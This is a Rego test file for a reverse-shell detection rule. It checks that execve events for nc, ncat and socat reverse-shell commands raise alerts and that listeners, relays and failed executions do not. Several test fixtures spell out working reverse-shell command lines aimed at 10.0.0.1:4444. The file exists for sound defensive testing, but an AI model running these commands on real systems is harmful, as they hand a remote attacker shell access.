package peregrine.rules.reverse_shell_test

import data.peregrine.rules.reverse_shell

exec(name, args) := {
	"evt": {"type": "execve", "dir": "<", "failed": false},
	"proc": {"name": name, "args": args, "pname": "bash"},
}

test_nc_e if reverse_shell.alert with input as exec("nc", "-e /bin/sh 10.0.0.1 4444")

test_ncat_late_c if reverse_shell.alert with input as exec("ncat", "10.0.0.1 4444 -c bash")

test_ncat_sh_exec if reverse_shell.alert with input as exec("ncat", "--sh-exec 'bash -i' 10.0.0.1 4444")

test_socat_exec_upper if reverse_shell.alert with input as exec("socat", "TCP:10.0.0.1:4444 EXEC:/bin/bash,pty")

test_socat_system if reverse_shell.alert with input as exec("socat", "tcp:10.0.0.1:4444 system:sh")

test_plain_nc if not reverse_shell.alert with input as exec("nc", "-lvnp 4444")

test_socat_relay if not reverse_shell.alert with input as exec("socat", "TCP-LISTEN:8080,fork TCP:10.0.0.2:80")

test_other_program if not reverse_shell.alert with input as exec("python3", "-c 'import pty'")

test_nc_without_args if not reverse_shell.alert with input as {"evt": {"type": "execve", "dir": "<", "failed": false}, "proc": {"name": "nc"}}

test_failed_exec if {
	doc := json.patch(exec("nc", "-e /bin/sh 10.0.0.1 4444"), [{"op": "replace", "path": "/evt/failed", "value": true}])
	not reverse_shell.alert with input as doc
}
